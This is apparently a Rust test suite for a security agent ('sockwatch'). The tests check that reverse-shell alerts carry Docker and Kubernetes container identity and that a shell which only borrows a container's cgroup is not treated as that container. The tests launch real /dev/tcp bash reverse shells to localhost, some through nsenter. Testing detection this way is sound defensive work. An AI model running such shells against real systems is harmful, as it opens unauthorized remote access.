//! Container and pod identity on alerts, from the host alone: cgroups the test creates in the
//! shapes docker and a Kubernetes node (containerd's CRI plugin) give their containers, each
//! with an init in a mount namespace of its own and the state file its runtime would have
//! written. A shell that joins the container (its cgroup and its init's mount namespace) is
//! named with the container; a shell that only names itself after it (the cgroup, not the
//! namespace: what any user can do in a delegated cgroup subtree) is not, and an exception by
//! image silences the first and never the second.

use crate::agent::Agent;
use crate::shells::is_incident_for;
use crate::util::{KillOnDrop, ScratchDir, prerequisites, prove_round_trip};
use serde_json::{Value, json};
use std::net::{TcpListener, TcpStream};
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const DOCKER_IMAGE: &str = "registry.test/shop/web:1.4";
const POD_IMAGE: &str = "registry.test/shop/api:2.0";

/// A cgroup subtree of the test's, under the unified (v2) hierarchy, below the test's own
/// cgroup; removed on drop once its processes are gone.
struct CgroupTree {
    root: PathBuf,
}

impl CgroupTree {
    fn new(tag: &str) -> CgroupTree {
        let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
        let mount = mountinfo
            .lines()
            .find_map(|l| {
                let (left, right) = l.split_once(" - ")?;
                (right.split(' ').next() == Some("cgroup2")).then(|| left.split(' ').nth(4))?
            })
            .expect("a cgroup2 (unified) hierarchy is mounted");
        let own = std::fs::read_to_string("/proc/self/cgroup").unwrap();
        let own = own.lines().find_map(|l| l.strip_prefix("0::")).expect("a cgroup v2 entry");
        let root = Path::new(mount)
            .join(own.trim_start_matches('/'))
            .join(format!("sockwatch-test-{tag}-{}", std::process::id()));
        std::fs::create_dir_all(&root).expect("create the test's cgroup");
        CgroupTree { root }
    }

    /// A cgroup at `relative` below the tree, created.
    fn cgroup(&self, relative: &str) -> PathBuf {
        let path = self.root.join(relative);
        std::fs::create_dir_all(&path).unwrap();
        path
    }

    /// The path /proc/PID/cgroup shows for `cgroup` (relative to the hierarchy's root).
    fn shown(cgroup: &Path, pid: u32) -> String {
        let own = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
        let shown = own.lines().find_map(|l| l.strip_prefix("0::")).unwrap().to_string();
        assert!(shown.ends_with(cgroup.file_name().unwrap().to_str().unwrap()), "{shown}");
        shown
    }
}

impl Drop for CgroupTree {
    fn drop(&mut self) {
        // Deepest first; a cgroup empties a moment after its last process is reaped.
        let deadline = Instant::now() + Duration::from_secs(5);
        let mut dirs = Vec::new();
        let mut stack = vec![self.root.clone()];
        while let Some(dir) = stack.pop() {
            if let Ok(entries) = std::fs::read_dir(&dir) {
                stack.extend(entries.flatten().map(|e| e.path()).filter(|p| p.is_dir()));
            }
            dirs.push(dir);
        }
        for dir in dirs.iter().rev() {
            while std::fs::remove_dir(dir).is_err() && Instant::now() < deadline {
                std::thread::sleep(Duration::from_millis(20));
            }
        }
    }
}

/// `command`, moved into `cgroup` between fork and exec: its first exec is already inside.
fn spawn_in(cgroup: &Path, mut command: Command) -> KillOnDrop {
    let procs = std::ffi::CString::new(cgroup.join("cgroup.procs").as_os_str().as_bytes()).unwrap();
    // Only async-signal-safe calls between fork and exec.
    unsafe {
        command.pre_exec(move || {
            let fd = libc::open(procs.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC);
            if fd < 0 {
                return Err(std::io::Error::last_os_error());
            }
            let written = libc::write(fd, b"0".as_ptr().cast(), 1);
            libc::close(fd);
            match written {
                1 => Ok(()),
                _ => Err(std::io::Error::last_os_error()),
            }
        });
    }
    KillOnDrop::new(command.stdin(Stdio::null()).stdout(Stdio::null()).spawn().unwrap())
}

/// A container's init: `sleep` in a mount namespace of its own, in `cgroup`.
fn container_init(cgroup: &Path) -> KillOnDrop {
    let mut init = Command::new("unshare");
    init.args(["--mount", "--propagation", "private", "--", "sleep", "600"]);
    let init = spawn_in(cgroup, init);
    // unshare execs sleep in place: the pid is the init's once its mount namespace differs.
    let pid = init.0.as_ref().unwrap().id();
    let deadline = Instant::now() + Duration::from_secs(10);
    while std::fs::read_link(format!("/proc/{pid}/ns/mnt")).ok()
        == std::fs::read_link("/proc/self/ns/mnt").ok()
    {
        assert!(Instant::now() < deadline, "the init unshared its mount namespace");
        std::thread::sleep(Duration::from_millis(10));
    }
    init
}

/// A `/dev/tcp` reverse shell in `cgroup`, in `init`'s mount namespace when given (joined as
/// `docker exec` joins it), proven by a round trip. Returns it, its connection and its port.
fn shell_in(cgroup: &Path, init: Option<u32>) -> (KillOnDrop, TcpStream, u16) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let shell = format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    let command = match init {
        Some(pid) => {
            let mut c = Command::new("nsenter");
            c.args(["--target", &pid.to_string(), "--mount", "--", "bash", "-c", &shell]);
            c
        }
        None => {
            let mut c = Command::new("bash");
            c.args(["-c", &shell]);
            c
        }
    };
    let mut command = command;
    command.stderr(Stdio::null());
    let shell = spawn_in(cgroup, command);
    let (mut peer, _) = listener.accept().unwrap();
    prove_round_trip(&mut peer);
    (shell, peer, port)
}

/// Docker's `config.v2.json` for a running container.
fn docker_state(root: &Path, id: &str, name: &str, init: u32) {
    let dir = root.join("containers").join(id);
    std::fs::create_dir_all(&dir).unwrap();
    let config = json!({
        "ID": id,
        "Name": format!("/{name}"),
        "Image": format!("sha256:{}", "9c".repeat(32)),
        "Config": {"Image": DOCKER_IMAGE, "Labels": {"com.docker.compose.project": "shop"}},
        "State": {"Running": true, "Pid": init},
    });
    std::fs::write(dir.join("config.v2.json"), config.to_string()).unwrap();
}

/// containerd's task bundle for a Kubernetes pod's container: `config.json` with the CRI
/// plugin's annotations and `init.pid`.
fn containerd_state(root: &Path, id: &str, pod: (&str, &str, &str), init: u32) {
    let (name, namespace, uid) = pod;
    let dir = root.join("io.containerd.runtime.v2.task").join("k8s.io").join(id);
    std::fs::create_dir_all(&dir).unwrap();
    let config = json!({
        "ociVersion": "1.1.0",
        "process": {"args": ["/api"]},
        "annotations": {
            "io.kubernetes.cri.container-name": "api",
            "io.kubernetes.cri.container-type": "container",
            "io.kubernetes.cri.image-name": POD_IMAGE,
            "io.kubernetes.cri.sandbox-id": "5a".repeat(32),
            "io.kubernetes.cri.sandbox-name": name,
            "io.kubernetes.cri.sandbox-namespace": namespace,
            "io.kubernetes.cri.sandbox-uid": uid,
        },
    });
    std::fs::write(dir.join("config.json"), config.to_string()).unwrap();
    std::fs::write(dir.join("init.pid"), init.to_string()).unwrap();
}

/// A config that reads runtime state from the test's directories only.
fn config(dir: &Path) -> PathBuf {
    let path = dir.join("sockwatch.toml");
    let text = format!(
        "[containers]\ndocker = [{:?}]\ncontainerd = [{:?}]\ncontainers_storage = []\nmachines = \"\"\n",
        dir.join("docker"),
        dir.join("containerd"),
    );
    std::fs::write(&path, text).unwrap();
    path
}

fn container_id(tag: u8) -> String {
    format!("{:02x}{:062x}", tag, std::process::id())
}

fn opened_for(agent: &Agent, port: u16) -> Value {
    agent.wait_for("incident_opened", |e| {
        is_incident_for(e, port) && e["event"]["action"] == "incident_opened"
    })
}

#[test]
fn docker_and_kubernetes_containers_are_named_on_the_alert() {
    if !prerequisites(&["bash", "unshare", "nsenter", "sleep"]) {
        return;
    }
    let dir = ScratchDir::new("containers");
    let tree = CgroupTree::new("named");
    let docker_id = container_id(0xd0);
    let docker = tree.cgroup(&format!("system.slice/docker-{docker_id}.scope"));
    let pod_uid = format!("8d1f2c3a-4b5e-6f70-8192-{:012x}", std::process::id());
    let pod_id = container_id(0xc0);
    let pod = tree.cgroup(&format!(
        "kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod{}.slice/cri-containerd-{pod_id}.scope",
        pod_uid.replace('-', "_")
    ));
    let docker_init = container_init(&docker);
    let docker_init_pid = docker_init.0.as_ref().unwrap().id();
    docker_state(&dir.path.join("docker"), &docker_id, "web-1", docker_init_pid);
    let pod_init = container_init(&pod);
    let pod_init_pid = pod_init.0.as_ref().unwrap().id();
    let pod_name = format!("api-7d4b9c-{}", std::process::id());
    containerd_state(
        &dir.path.join("containerd"),
        &pod_id,
        (&pod_name, "shop", &pod_uid),
        pod_init_pid,
    );
    let config = config(&dir.path);
    let state = ScratchDir::new("containers-state");
    let agent = Agent::start_in(&state.path, &["--config", config.to_str().unwrap()]);

    let (docker_shell, _docker_peer, docker_port) = shell_in(&docker, Some(docker_init_pid));
    let (pod_shell, _pod_peer, pod_port) = shell_in(&pod, Some(pod_init_pid));
    let cgroup_path = CgroupTree::shown(&docker, docker_shell.0.as_ref().unwrap().id());

    let alert = opened_for(&agent, docker_port);
    assert_eq!(
        alert["container"],
        json!({
            "id": docker_id,
            "runtime": "docker",
            "name": "web-1",
            "image": {"name": DOCKER_IMAGE, "hash": {"all": [format!("sha256:{}", "9c".repeat(32))]}},
        }),
        "{alert:#}"
    );
    assert_eq!(
        alert["sockwatch"]["container"],
        json!({
            "verification": "init_namespace",
            "verified": true,
            "metadata_source": "docker_config",
            "metadata_complete": true,
        })
    );
    assert!(alert.get("orchestrator").is_none(), "no pod: {alert:#}");
    assert!(cgroup_path.contains(&docker_id));

    let alert = opened_for(&agent, pod_port);
    assert_eq!(alert["process"]["pid"], pod_shell.0.as_ref().unwrap().id());
    assert_eq!(
        alert["container"],
        json!({"id": pod_id, "runtime": "containerd", "name": "api", "image": {"name": POD_IMAGE}}),
        "{alert:#}"
    );
    assert_eq!(
        alert["orchestrator"],
        json!({
            "type": "kubernetes",
            "namespace": "shop",
            "resource": {"type": "pod", "name": pod_name, "id": pod_uid},
        })
    );
    let details = &alert["sockwatch"]["container"];
    assert_eq!(details["k8s_qos_class"], "besteffort");
    assert_eq!(details["metadata_source"], "containerd_bundle");
    assert_eq!(details["verified"], true);

    // `sockwatch incidents` names both containers, the pod by namespace and name.
    let listed = Command::new(env!("CARGO_BIN_EXE_sockwatch"))
        .args(["incidents", "--format", "json", "--state-dir"])
        .arg(&state.path)
        .output()
        .unwrap();
    let listed: Vec<Value> = serde_json::from_slice(&listed.stdout).unwrap();
    let by_pid = |pid: u32| {
        let found = listed.iter().find(|i| i["process"]["pid"] == pid);
        found.unwrap_or_else(|| panic!("pid {pid} in {listed:#?}"))["container"].clone()
    };
    let docker_listed = by_pid(docker_shell.0.as_ref().unwrap().id());
    assert_eq!(
        (&docker_listed["name"], &docker_listed["image"]),
        (&json!("web-1"), &json!(DOCKER_IMAGE))
    );
    let pod_listed = by_pid(pod_shell.0.as_ref().unwrap().id());
    assert_eq!(pod_listed["pod"]["namespace"], "shop", "{pod_listed:#}");
    let table = Command::new(env!("CARGO_BIN_EXE_sockwatch"))
        .args(["incidents", "--state-dir"])
        .arg(&state.path)
        .env("COLUMNS", "400")
        .output()
        .unwrap();
    let table = String::from_utf8(table.stdout).unwrap();
    assert!(table.contains(&format!("shop/{pod_name}")) && table.contains("web-1"), "{table}");
    drop((docker_shell, pod_shell, docker_init, pod_init));
    agent.stop();
}

#[test]
fn an_image_exception_silences_the_container_and_never_a_shell_borrowing_its_cgroup() {
    if !prerequisites(&["bash", "unshare", "nsenter", "sleep"]) {
        return;
    }
    let dir = ScratchDir::new("containers-exception");
    let tree = CgroupTree::new("excepted");
    let id = container_id(0xe0);
    let docker = tree.cgroup(&format!("system.slice/docker-{id}.scope"));
    let init = container_init(&docker);
    let init_pid = init.0.as_ref().unwrap().id();
    docker_state(&dir.path.join("docker"), &id, "web-1", init_pid);
    // The operator accepts shells in this image: a CI runner's, say.
    let rules = dir.path.join("local.toml");
    let local = format!(
        "[[list]]\nname = \"excepted_container_images\"\nitems = [{DOCKER_IMAGE:?}]\nappend = true\n"
    );
    std::fs::write(&rules, local).unwrap();
    let config = config(&dir.path);
    let agent =
        Agent::start(&["--config", config.to_str().unwrap(), "--rules", rules.to_str().unwrap()]);

    let (inside, _inside_peer, inside_port) = shell_in(&docker, Some(init_pid));
    // The impostor: the same cgroup, the host's mount namespace.
    let (impostor, _impostor_peer, impostor_port) = shell_in(&docker, None);
    let alert = opened_for(&agent, impostor_port);
    assert_eq!(alert["process"]["pid"], impostor.0.as_ref().unwrap().id());
    assert!(alert.get("container").is_none(), "a disproved claim names no container: {alert:#}");
    assert_eq!(alert["sockwatch"]["container"]["verification"], "namespace_differs");
    assert_eq!(alert["sockwatch"]["container"]["claimed_id"], id.as_str());
    // A connection opened after both shells were proven: the scan that reports it saw both.
    let marker = TcpListener::bind("127.0.0.1:0").unwrap();
    let marker_port = marker.local_addr().unwrap().port();
    let _client = TcpStream::connect(("127.0.0.1", marker_port)).unwrap();
    agent.wait_for("socket_opened", |e| {
        e["event"]["action"] == "socket_opened" && e["destination"]["port"] == marker_port
    });
    let inside_pid = inside.0.as_ref().unwrap().id();
    let (_, events, _) = agent.stop();
    let silenced: Vec<&Value> = events.iter().filter(|e| is_incident_for(e, inside_port)).collect();
    assert!(silenced.is_empty(), "shell {inside_pid} in the excepted image: {silenced:#?}");
    drop((inside, impostor, init));
}
